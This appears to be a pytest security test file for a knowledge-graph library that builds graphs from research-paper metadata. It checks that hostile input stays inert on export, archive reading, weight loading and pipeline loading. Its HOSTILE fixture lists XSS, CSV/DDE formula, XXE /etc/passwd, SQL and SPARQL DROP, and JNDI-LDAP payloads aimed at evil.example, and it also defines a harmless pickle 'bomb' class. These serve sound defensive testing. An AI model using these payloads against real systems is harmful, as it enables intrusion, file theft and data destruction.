"""What other people's files, abstracts, vocabularies and pipelines may not do; `docs/threats.md` names these tests."""

import ast
import csv
import io
import json
import zipfile
from collections.abc import Callable, Sequence
from contextlib import suppress
from pathlib import Path

import networkx as nx
import numpy as np
import pyoxigraph as ox
import pytest
import rdflib
from growth import LINEAR, growth, over_and_over

import kg
from kg.cells import unguarded
from kg.errors import InputError, KgError, PipelineError
from kg.export import export
from kg.extract import Extractor, load_pipeline
from kg.extract.codec import to_json
from kg.extract.facts.heads import load_heads
from kg.extract.mentions.heads import _NAMES as MENTION_HEADS
from kg.extract.mentions.heads import Heads
from kg.extract.mentions.things import Judge
from kg.model import EntityType
from kg.read import read
from kg.resolve.doubt import Doubt
from kg.resolve.listing import Listed
from kg.resolve.report import write_doubts, write_entities
from kg.store import open_store
from kg.vocab import BASE, KG
from kg.vocabulary import load_vocabulary

HOSTILE = [
    '</script><script>alert(1)</script>"><img src=x onerror=alert(1)>',
    '" . <http://evil.example/s> <http://evil.example/p> "x',
    "=cmd|' /C calc'!A0",
    "]]> <!ENTITY x SYSTEM 'file:///etc/passwd'> &x;",
    "} } ; DROP ALL ; INSERT DATA { <http://evil.example/s> a <x> }",
    "\u202egnp.exe \u0000 \u2028 \ud800 \x1b[31m",
    "'; DROP TABLE paper; --",
    "${jndi:ldap://evil.example/a} {{7*7}} %s %n",
]


@pytest.fixture(scope="module")
def rules() -> Extractor:
    return Extractor("rules")


@pytest.fixture(scope="module")
def graph(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    rows = [
        {
            "id": text,
            "title": f"{text} {n}",
            "abstract": f"We propose Net{n}, a neural network. {text} Net{n} reaches {n}1.5% accuracy on ImageNet.",
            "authors": [text, f"A. {text}"],
            "venue": text,
            "url": f"https://example.org/{text}",
        }
        for n, text in enumerate(HOSTILE)
    ]
    source = folder / "papers.jsonl"
    source.write_text("".join(json.dumps(row) + "\n" for row in rows), "utf-8")
    kg.build([source], folder / "g")
    return folder / "g"


def test_no_text_becomes_a_statement_of_its_own(graph: Path) -> None:
    quads = list(open_store(graph))
    assert len(quads) > 300
    assert all(quad.subject.value.startswith(BASE) and quad.graph_name.value.startswith(BASE) for quad in quads)
    # The addresses that a text holds become links of its paper, and nothing else.
    named = [
        quad for quad in quads if isinstance(quad.object, ox.NamedNode) and quad.object.value.startswith("http://evil")
    ]
    assert {quad.predicate.value for quad in named} <= {str(KG.link), str(KG.projectPage), str(KG.datasetPage)}
    assert not [quad for quad in quads if "evil" in quad.predicate.value]


@pytest.mark.filterwarnings("ignore::DeprecationWarning")
@pytest.mark.parametrize("ending", [".nt", ".ttl", ".rdf", ".nq", ".trig", ".jsonld"])
def test_every_rdf_format_reads_back_as_it_was(graph: Path, tmp_path: Path, ending: str) -> None:
    store = open_store(graph)
    path = export(store, tmp_path / f"out{ending}")
    again = ox.Store()
    again.load(path=str(path))
    if ending in (".nq", ".trig", ".jsonld"):
        assert set(map(str, again)) == set(map(str, store))
    else:
        assert {str(quad.triple) for quad in again} == {str(quad.triple) for quad in store}
    if ending in (".nt", ".ttl", ".rdf"):  # by a reader that is not the writer's
        assert len(rdflib.Graph().parse(path)) == len(again)


@pytest.mark.parametrize("ending", [".graphml", ".gexf"])
def test_networks_read_back_with_the_same_nodes(graph: Path, tmp_path: Path, ending: str) -> None:
    path = export(open_store(graph), tmp_path / f"out{ending}")
    found = nx.read_graphml(path) if ending == ".graphml" else nx.read_gexf(path)
    assert sum(data.get("type") == "Paper" for _, data in found.nodes(data=True)) == len(HOSTILE)


def test_no_cell_of_a_table_is_a_formula(graph: Path, tmp_path: Path) -> None:
    folder = export(open_store(graph), tmp_path / "out.csv")
    cells = []
    for path in sorted(folder.iterdir()):
        with path.open(encoding="utf-8", newline="") as rows:
            cells += [cell for row in csv.reader(rows) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert any("DROP TABLE" in cell for cell in unguarded(cells))


def test_no_cell_of_a_list_of_entities_is_a_formula() -> None:
    out = io.StringIO()
    write_entities([Listed("method/x", EntityType.METHOD, "=HYPERLINK(1)", ("@sum", "x"), 1, 2)], "csv", out)
    write_doubts([Doubt("+1+1 = y", "alike", 2)], "csv", out)
    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
    assert {"'=HYPERLINK(1)", "'@sum | x", "'+1+1 = y"} <= set(cells)


def test_a_page_holds_hostile_text_as_text_alone(graph: Path, tmp_path: Path) -> None:
    page = tmp_path / "page.html"
    kg.Graph(graph).view().save(page)
    text = page.read_text("utf-8")
    assert "alert(1)" in text
    assert "<img src=x" not in text and "<script>alert" not in text


@pytest.mark.parametrize("name", ["../out.jsonl", "/tmp/kg-out.jsonl", "a/../../out.jsonl", "..\\out.jsonl"])
def test_a_zip_writes_nowhere(tmp_path: Path, name: str) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    with zipfile.ZipFile(folder / "a.zip", "w") as archive:
        archive.writestr(name, '{"title": "One", "abstract": "One lamp lights one room."}\n')
    before = sorted(tmp_path.rglob("*"))
    with suppress(InputError):  # a name that begins with a dot is passed over, as in a folder
        assert any(getattr(item, "title", "") == "One" for item in read([folder / "a.zip"]))
    assert sorted(tmp_path.rglob("*")) == before and not Path("/tmp/kg-out.jsonl").exists()


class Bomb:
    """Unpickled, it would leave a file."""

    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return Path.touch, (self.mark,)


def read_facts(folder: Path) -> object:
    return load_heads(folder / "weights.npz", ["head"])


def read_heads(folder: Path) -> object:
    return Heads.from_disk(folder / "weights.npz")


def read_judge(folder: Path) -> object:
    (folder / "weights.npz").rename(folder / "judge.npz")
    trees = {"depth": 1, "base": 0.0}
    (folder / "judge.json").write_text(json.dumps({"features": [], "right": trees, "core": trees}), "utf-8")
    return Judge.from_disk(folder)


@pytest.mark.parametrize(
    "reader, names",
    [
        (read_facts, ["head/features", "head/labels"]),
        (read_heads, MENTION_HEADS),
        (
            read_judge,
            [
                f"{model}_{part}"
                for model in ("right", "core")
                for part in ("feature", "threshold", "left", "right", "value")
            ],
        ),
    ],
)
def test_pickled_weights_are_refused_unread(
    tmp_path: Path, reader: Callable[[Path], object], names: Sequence[str]
) -> None:
    mark = tmp_path / "mark"
    np.savez(tmp_path / "weights.npz", **{name: np.array([Bomb(mark)], dtype=object) for name in names})
    with pytest.raises((KgError, ValueError), match="allow_pickle=False"):
        reader(tmp_path)
    assert not mark.exists()


def test_nothing_is_unpickled_anywhere() -> None:
    for path in Path(kg.__file__).parent.rglob("*.py"):
        for item in ast.walk(ast.parse(path.read_text("utf-8"))):
            if isinstance(item, ast.Import | ast.ImportFrom):
                names = {alias.name for alias in item.names} | {getattr(item, "module", "") or ""}
                assert not names & {"pickle", "marshal", "shelve", "joblib", "dill", "cloudpickle"}, path
            elif isinstance(item, ast.Call) and ast.unparse(item.func) in ("np.load", "numpy.load"):
                refuses = {ast.unparse(keyword) for keyword in item.keywords}
                assert "allow_pickle=False" in refuses, f"{path}:{item.lineno}"


def test_code_beside_a_pipeline_is_not_run(tmp_path: Path) -> None:
    mark = tmp_path / "mark"
    folder = tmp_path / "own"
    folder.mkdir()
    (folder / "config.cfg").write_text('[nlp]\nlang = "en"\npipeline = ["kg_patterns"]\n', "utf-8")
    for name in ("__init__.py", "functions.py", "kg_patterns.py", "sitecustomize.py"):
        (folder / name).write_text(f"open({str(mark)!r}, 'w')\n", "utf-8")
    load_pipeline(folder)
    assert not mark.exists()


@pytest.mark.parametrize("line", ['factory = "os.system"', '@misc = "spacy.Callback"', 'factory = "entity_ruler"'])
def test_a_pipeline_names_no_other_code(tmp_path: Path, line: str) -> None:
    config = f'[nlp]\nlang = "en"\npipeline = ["x"]\n[components]\n[components.x]\n{line}\n'
    (tmp_path / "config.cfg").write_text(config, "utf-8")
    with pytest.raises(PipelineError):
        load_pipeline(tmp_path)


def test_a_vocabulary_fetches_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("asked the network")

    monkeypatch.setattr("socket.socket.connect", refuse)
    path = tmp_path / "own.ttl"
    path.write_text(
        "@prefix skos: <http://www.w3.org/2004/02/skos/core#> . @prefix owl: <http://www.w3.org/2002/07/owl#> .\n"
        "@prefix kg: <https://w3id.org/paperkg/ontology#> .\n"
        "<http://evil.example/> a owl:Ontology ; owl:imports <http://evil.example/more.ttl> .\n"
        '<http://evil.example/a> a skos:Concept, kg:Method ; skos:prefLabel "Foo"@en .\n',
        "utf-8",
    )
    load_vocabulary([path])


#: What backtracking, nesting and pairing suffer from.
BOMBS = {
    "brackets": "(",
    "digits": "7",
    "backslashes": "\\",
    "LaTeX": "\\mathrm{",
    "formulas": "$_{",
    "percents": "5% ",
    "comparisons": "1 vs 2 ",
    "ranges": "from 1 to ",
    "acronyms": "Foo Bar (FB) ",
    "results": "BERT reaches 91.3% accuracy on GLUE. ",
    "addresses": "https: //github.com/a ",
    "decimals": "1,0",
    "names": "A, ",
    "spaces": " ",
    "marks": "e\u0301",
    "definitions": "x (X) ",
    "short names": "GAN ",
    "letters": "A",
    "hyphens": "a-",
    "lines": "\n",
    "numbered lists": "1.",
    "abbreviations": "et al. ",
    "words": "a ",
    "open brackets": "A (",
    "schemes": "https://",
    "braces": "{",
    "dollars": "$",
    "lone marks": "\u0301",
    "lists": "Z, a ",
}


@pytest.mark.slow
@pytest.mark.parametrize("piece", BOMBS.values(), ids=BOMBS)
def test_time_grows_with_the_length_alone(rules: Extractor, piece: str) -> None:
    assert growth(lambda text: to_json(*rules.extract([text])), over_and_over(piece), 15_000) < LINEAR
